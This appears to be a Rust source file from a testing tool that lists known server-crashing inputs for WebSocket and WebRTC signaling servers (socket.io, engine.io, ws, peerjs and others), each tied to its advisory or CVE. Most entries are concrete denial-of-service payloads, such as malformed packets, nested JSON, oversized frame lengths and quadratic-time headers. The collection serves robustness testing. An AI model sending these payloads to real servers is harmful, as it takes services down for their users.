//! What is known to have stopped a server, with where it is known from: one message, one case.

use super::Draft;

struct Killer {
    name: &'static str,
    /// Who is stopped by it, and the advisory's id where there is one.
    source: &'static str,
    lines: &'static [&'static str],
}

pub(super) fn drafts() -> Vec<Draft> {
    let draft = |killer: &Killer| Draft {
        id: format!("killer-{}", killer.name),
        title: format!("known to stop servers: {}", killer.source),
        lines: killer.lines.iter().map(|line| (*line).to_owned()).collect(),
    };
    KILLERS.iter().map(draft).collect()
}

const KILLERS: &[Killer] = &[
    Killer {
        name: "join-without-ack",
        source: "tutorial servers: the missing callback is called, and called again where its error is caught",
        lines: &["X join r noack"],
    },
    Killer {
        name: "create-without-ack",
        source: "tutorial servers: the missing callback is called, and called again where its error is caught",
        lines: &["X create t noack"],
    },
    Killer {
        name: "data-for-callback",
        source: "tutorial servers: a second argument stands where the callback is expected, and is called",
        lines: &[
            r#"X frame socketio text "42[\"join-room\",\"\",{}]""#,
            r#"Y frame socketio text "42[\"create-room\",\"\",1]""#,
        ],
    },
    Killer {
        name: "offer-without-data",
        source: "tutorial servers: data that is not there is taken apart before anything is caught",
        lines: &["X emit offer"],
    },
    Killer {
        name: "candidate-null",
        source: "tutorial servers: null is taken apart before anything is caught",
        lines: &["X emit ice-candidate null"],
    },
    Killer {
        name: "answer-without-payload",
        source: "tutorial servers: the size of a description that is not there is measured",
        lines: &[r#"A emit answer {"target":"$B"}"#],
    },
    Killer {
        name: "deep-payload",
        source: "JavaScript servers: JSON is read by a loop and written by recursion, so what was read cannot be sent on",
        lines: &[
            r#"X frame socketio text "42[\"offer\",{\"target\":\"nobody\",\"offer\":" "["*90000 "]"*90000 "}]""#,
            r#"Y frame json text "{\"event\":\"offer\",\"data\":{\"target\":\"nobody\",\"offer\":" "["*90000 "]"*90000 "}}""#,
        ],
    },
    Killer {
        name: "not-json",
        source: "y-webrtc's signaling server: a message is parsed outside of any try block",
        lines: &[r#"X frame any text "not json""#],
    },
    Killer {
        name: "topics-no-list",
        source: "y-webrtc's signaling server: what is no list is gone through",
        lines: &[r#"X frame json text "{\"type\":\"subscribe\",\"topics\":1}""#],
    },
    Killer {
        name: "null-message",
        source: "rtcmulticonnection-server: a member of null is read",
        lines: &["X emit RTCMultiConnection-Message null", r#"Y frame any text "null""#],
    },
    Killer {
        name: "open-room-without-argument",
        source: "rtcmulticonnection-server: a member of an argument that is not there is read",
        lines: &["X emit open-room", "X emit join-room"],
    },
    Killer {
        name: "discover-without-data",
        source: "simple-signal-server: a member of data that is not there is read",
        lines: &[
            "X emit simple-signal[discover]",
            "X emit simple-signal[offer]",
            "X emit simple-signal[signal] null",
            "X emit simple-signal[reject]",
        ],
    },
    Killer {
        name: "auth-without-data",
        source: "open-easyrtc: a message without a type or its data",
        lines: &["X emit easyrtcAuth", "X emit easyrtcAuth null", "X emit easyrtcCmd null ack", "X emit easyrtcMsg {}"],
    },
    Killer {
        name: "announce-without-offers",
        source: "bittorrent-tracker: an announce whose members are of other kinds",
        lines: &[r#"X frame json text "{\"action\":\"announce\",\"info_hash\":1,\"offers\":{}}""#],
    },
    Killer {
        name: "announce-without-data",
        source: "rtc-switchboard: a command in parts of which some are missing",
        lines: &[r#"X frame any text "/announce""#, r#"Y frame any text "/announce||{""#, r#"Z frame any text "/to|""#],
    },
    Killer {
        name: "deaf-after-garbage",
        source: "peerjs: after one frame that is not JSON the server hears nothing more from that connection",
        lines: &["X create t", "X frame garbage"],
    },
    Killer {
        name: "unhandled-error-event",
        source: "socket.io below 4.6.2, CVE-2024-38355: an event called error that nobody listens to",
        lines: &["X emit error", r#"X emit error {"message":"x"}"#],
    },
    Killer {
        name: "name-with-own-to-string",
        source: "socket.io-parser below 4.2.3, CVE-2023-32695: an event's name is an object whose toString is no function",
        lines: &[r#"X frame socketio text "42[{\"toString\":\"x\"}]""#],
    },
    Killer {
        name: "placeholder-by-name",
        source: "socket.io-parser below 4.2.1, CVE-2022-2421: an attachment's number names a method of lists",
        lines: &[
            r#"X frame socketio text "451-[\"offer\",{\"_placeholder\":true,\"num\":\"splice\"}]" binary x00"#,
            r#"Y frame socketio text "451-[\"create-room\",{\"_placeholder\":true,\"num\":\"toString\"}]" binary x00"#,
        ],
    },
    Killer {
        name: "attachments-without-end",
        source: "socket.io-parser before March 2026: any number of attachments is announced and waited for",
        lines: &[r#"X frame socketio text "45999999999-[\"x\"]" binary*500 x00 held"#],
    },
    Killer {
        name: "packet-in-pieces",
        source: "socket.io-parser below 3.4.1, CVE-2020-36049: digits and names are put together byte by byte",
        lines: &[r#"X frame socketio text "45" "1"*500000"#, r#"Y frame socketio text "42/" "n"*500000"#],
    },
    Killer {
        name: "reserved-bits",
        source: "engine.io below 6.1.1, CVE-2022-21676: the error of a frame with reserved bits that comes with the handshake",
        lines: &[
            r#"X handshake any "GET " @path " HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" xb282 x00000000 x0000"#,
            "Y frame any raw xb282 x00000000 x0000",
        ],
    },
    Killer {
        name: "upgrade-and-gone",
        source: "engine.io below 6.2.1, CVE-2022-41940: an upgrade is refused to somebody who is gone",
        lines: &[
            r#"X handshake socketio "GET " @path "?EIO=4&transport=none HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n""#,
            r#"Y handshake socketio "GET " @path "?EIO=4&transport=websocket&sid=none HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n""#,
        ],
    },
    Killer {
        name: "upgrade-of-no-transport",
        source: "engine.io 5.1.0 to 6.4.1, CVE-2023-31125: a request for an upgrade names a transport that has none",
        lines: &[
            r#"X handshake socketio "GET " @path "?EIO=4&transport=constructor HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n""#,
            r#"Y handshake socketio "GET " @path "?EIO=4&transport=polling&sid=" @sid " HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n""#,
        ],
    },
    Killer {
        name: "binary-body",
        source: "engine.io below 6.6.7, CVE-2026-59725: a POST whose body is binary where that is not allowed",
        lines: &[
            r#"X handshake socketio "POST " @path "?EIO=4&transport=polling&sid=" @sid " HTTP/1.1\r\nHost: h\r\nContent-Type: application/octet-stream\r\nContent-Length: 5\r\n\r\n" x000102feff"#,
        ],
    },
    Killer {
        name: "extension-of-every-object",
        source: "ws below 3.3.1, GHSA-5v72-xg48-5rpm: an extension has the name of what every object has",
        lines: &[
            r#"X handshake any "GET " @path " HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 8\r\nSec-WebSocket-Key: test\r\nSec-WebSocket-Extensions: constructor\r\n\r\n""#,
            r#"Y handshake any "GET " @path " HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: ,;constructor\r\n\r\n""#,
        ],
    },
    Killer {
        name: "headers-without-end",
        source: "ws below 8.17.1, GHSA-3h5v-q93c-6h6q: more headers than are kept, so that the one that is needed is not there",
        lines: &[
            r#"X handshake any "GET " @path " HTTP/1.1\r\n" "a:1\r\n"*2000 "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n""#,
        ],
    },
    Killer {
        name: "protocol-of-spaces",
        source: "ws below 7.4.6, CVE-2021-32640: a subprotocol whose spaces take quadratic time",
        lines: &[
            r#"X handshake any "GET " @path " HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: b" " "*7500 "x\r\n\r\n""#,
        ],
    },
    Killer {
        name: "extension-that-never-ends",
        source: "websocket-extensions below 0.1.4, CVE-2020-7662: a quoted parameter that is not closed takes quadratic time",
        lines: &[
            r#"X handshake any "GET " @path " HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: a; b=\"" "\\c"*3500 "\r\n\r\n""#,
        ],
    },
    Killer {
        name: "tiny-fragments",
        source: "ws: fragments and chunks so small that what holds them is larger than they are",
        lines: &["X frame any raw x018000000000 x008000000000*30000"],
    },
    Killer {
        name: "length-of-all-memory",
        source: "ws below 1.1.1 and others: the announced length of a frame is believed",
        lines: &[
            "X frame any raw x81ff7fffffffffffffff x00000000",
            "Y frame any raw x82ffffffffffffffffff x00000000",
            "Z frame any raw x82ff0000000040000000 x00000000",
        ],
    },
    Killer {
        name: "header-that-never-ends",
        source: "tungstenite below 0.20.1, CVE-2023-43669: a request's head is read over and over while it grows",
        lines: &[r#"X handshake any "GET " @path " HTTP/1.1\r\nX: " "a"*400000"#],
    },
];
